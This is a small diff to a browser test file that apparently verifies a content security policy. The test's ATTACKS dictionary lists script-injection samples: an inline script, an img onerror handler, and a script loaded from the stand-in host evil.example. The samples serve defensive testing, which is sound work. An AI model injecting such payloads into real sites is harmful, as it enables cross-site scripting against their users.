@@ -54,7 +54,7 @@ def test_a_pdf_is_shown_where_the_policy_names_its_host(browser: Browser, site: 
 ATTACKS = {
     "script": """const s = document.createElement('script'); s.textContent = 'window.ran = 1'
         document.body.append(s)""",
-    "handler": """const i = document.createElement('img'); i.setAttribute('onerror', 'window.ran = 1')
+    "handler": """const i = document.createElement('img'); i.setAttribute('onerror', 'ran = 1')
         i.src = 'x'; document.body.append(i)""",
     "foreign script": """const s = document.createElement('script')
         s.src = 'https://evil.example/x.js'; document.body.append(s)""",
